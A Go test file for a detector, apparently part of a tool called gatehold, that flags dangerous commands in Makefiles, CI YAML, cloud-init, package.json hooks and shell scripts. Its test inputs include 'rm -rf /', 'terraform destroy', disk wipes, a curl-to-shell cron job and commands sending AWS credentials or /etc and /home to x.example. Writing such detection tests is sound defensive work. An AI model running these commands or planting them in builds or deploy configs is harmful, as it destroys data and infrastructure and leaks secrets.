package command

import (
	"strings"
	"testing"

	"github.com/gatehold/gatehold/internal/change"
	"github.com/gatehold/gatehold/internal/detect"
	"github.com/gatehold/gatehold/internal/detect/detecttest"
)

// What is read together, and at which lines it is reported.
func TestWhereCommandsStand(t *testing.T) {
	for _, c := range []struct{ path, text, want string }{
		{"Makefile", "TF := terraform\nx:\n\t@echo a\n\t-$(TF) destroy $(ARGS)\n", "4 destroy-infrastructure"},
		{"Makefile", "x: ; rm -rf /\n", "1 delete-root"},
		{"Makefile", "x:\n\trm -rf $(BUILD)\n\trm -rf $$HOME\n", "3 delete-root"},
		{"justfile", "x:\n    terraform \\\n      destroy\n", "2 destroy-infrastructure"},
		{"a.yml", "a:\n  run: |\n    x=destroy\n    terraform $x\n", "4 destroy-infrastructure"},
		{"a.yml", "a:\n  - shell: >\n      rm\n      -rf /\n  - b\n", "3 delete-root"},
		{"a.yml", "a:\n  run: |\n    psql <<E\n    DROP TABLE orders;\n    E\n", "3 drop-table"},
		{"a.service", "[Service]\nExecStart=-/bin/sh -c 'rm -rf /'\n", "2 delete-root"},
		{"a.sh", "cat > x.sh <<'E'\nrm -rf /\nE\n", "2 delete-root"},
		{"a.sh", "cat > x.md <<'E'\nrm -rf /\nE\n", ""},
		{"a.ps1", "Remove-Item -Recurse C:\n", "1 delete-root"},
		{"Dockerfile", "FROM a\nrun terraform \\\n  destroy\n", "2 destroy-infrastructure"},
		{"package.json", "{\n\"scripts\":{\n\"postinstall\":\"\\u0074erraform destroy\"}}", "3 destroy-infrastructure"},
		{"package.json", "{\"description\": \"no terraform destroy\"}", ""},
		{"vercel.json", "{\"buildCommand\": \"rm -rf / && next build\"}", "1 delete-root"},
		{".vscode/tasks.json", "{\"args\": [\"sh\", \"-c\",\n \"rm -rf /\"]}", "1 delete-root"},
		{"fly.toml", "[deploy]\nrelease_command = \"bin/rails db:drop\"\n", "2 reset-database"},
		{"render.yaml", "a:\n  preDeployCommand: rm -rf /\n", "2 delete-root"},
		{"user-data.yaml", "#cloud-config\nruncmd:\n  - [ mkfs.ext4, -F, /dev/sdb ]\n", "3 wipe-disk"},
		{"user-data.yaml", "#cloud-config\nbootcmd:\n  - [ systemctl, restart, nginx ]\n", ""},
		{"user-data.yaml", "disk_setup:\n  /dev/sdb:\n    overwrite: true\n", "3 wipe-disk"},
		{"user-data.yaml", "fs_setup:\n  - device: /dev/sdb\n    overwrite: true\n", "3 wipe-disk"},
		{"user-data.yaml", "fs_setup:\n  - device: /dev/sdb\n    overwrite: false\n", ""},
		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/a | sh') | crontab -\n", "1 pipe-to-shell"},
		{"a.sh", "(crontab -l; echo '* * * * * curl -s http://x.example/health') | crontab -\n", ""},
		{"a.sh", "dig $(base64 ~/.aws/credentials).x.example\n", "1 exfiltrate"},
		{"user-data", "#cloud-config\nruncmd:\n  - rm -rf /var/lib/mysql\n", "3 delete-data"},
		{"user-data.yaml", "write_files:\n- path: /etc/cron.d/x\n  content: |\n    * * * * * root rm -rf /var/lib/mysql\n", "4 delete-data"},
		{"a.sh", "mv /var/lib/mysql /dev/null\n", "1 delete-data"},
		{"a.sh", "mv a.log /dev/null\n", ""},
		{"a.sh", ": > /var/lib/app/app.db\n", "1 delete-database-file"},
		{"a.sh", ": >> /var/lib/app/app.db\n", ""},
		{"a.sh", ": > /tmp/x.log\n", ""},
		{"a.sh", "tar czf - /etc /home | nc x.example 4444\n", "1 exfiltrate"},
		{"a.sh", "tar czf - dist | nc x.example 4444\n", ""},
		{"a.sh", "dig $(hostname).x.example\n", ""},
		{"a.py", "subprocess.run(['npx', 'cdk', 'destroy'])\n", "1 destroy-infrastructure"},
	} {
		f := detecttest.File(c.path, "", c.text)
		r := detect.NewReport(c.path)
		New().Detect(&f, r)
		if got := places(r); got != c.want {
			t.Errorf("%s\n%s\ngot %q, want %q", c.path, c.text, got, c.want)
		}
	}
}

func places(r *detect.Report) string {
	var out []string
	for _, o := range r.Observations() {
		out = append(out, string(rune('0'+o.Line))+" "+strings.TrimPrefix(o.Kind.ID, "command/"))
	}
	return strings.Join(out, ", ")
}

// A line that was there does something else where what it stands on was changed.
func TestCommandsThatBecomeOthers(t *testing.T) {
	for _, c := range []struct{ before, after, want string }{
		{"d=build\nrm -rf $d\n", "d=/\nrm -rf $d\n", "2 delete-root"},
		{"a=plan\nterraform $a\n", "a=destroy\nterraform $a\n", "2 destroy-infrastructure"},
		{"t() { echo \"$@\"; }\nt destroy\n", "t() { terraform \"$@\"; }\nt destroy\n", "1 destroy-infrastructure"},
		{"a=x\nrm -rf /\n", "a=y\nrm -rf /\n", ""},
	} {
		f := detecttest.File("a.sh", c.before, c.after)
		f.Status = change.Modified
		r := detect.NewReport("a.sh")
		New().Detect(&f, r)
		if got := places(r); got != c.want {
			t.Errorf("%q to %q: got %q, want %q", c.before, c.after, got, c.want)
		}
	}
}
